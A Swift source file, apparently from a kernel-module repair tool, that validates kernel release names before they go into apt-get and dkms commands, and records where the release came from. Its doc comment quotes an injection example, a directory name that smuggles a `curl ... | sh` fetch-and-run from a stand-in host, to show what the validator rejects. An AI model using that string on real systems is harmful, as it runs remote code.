/// A kernel release names a directory under /lib/modules and goes into package names and
/// commands ampfix prints or runs (`apt-get install -y linux-headers-RELEASE`, `dkms build -k
/// RELEASE`): one plain word, never a path, an option or anything a shell would split or run —
/// letters, digits and . _ + ~ -, not first a dot or a dash. An entry of /lib/modules that is
/// not one (`9.9.9-x;curl -s evil.example|sh;#`) is passed over, and --kernel refuses it.
public enum KernelRelease {
    public static func isValid(_ release: String) -> Bool {
        ModuleSource.isWord(release, maximumLength: 128, also: "._+~-")
    }
}

/// Where the kernel release that faults 8, 9, 11 and 16 look at came from (`message`: how the
/// evidence says it).
public enum KernelReleaseSource: Sendable {
    /// --kernel RELEASE.
    case option
    /// The running kernel (uname), on the live host.
    case running
    /// Under --root: the newest /lib/modules entry.
    case newestInstalled
    /// Under --root with an empty /lib/modules.
    case none

    /// Where the release came from, in the report's language.
    public var message: Message {
        switch self {
        case .option: return .verbatim("--kernel")
        case .running: return .verbatim("uname")
        case .newestInstalled: return .msg("the newest entry in /lib/modules; --kernel chooses another")
        case .none: return .msg("no running kernel under --root and nothing in /lib/modules; pass --kernel RELEASE")
        }
    }
}
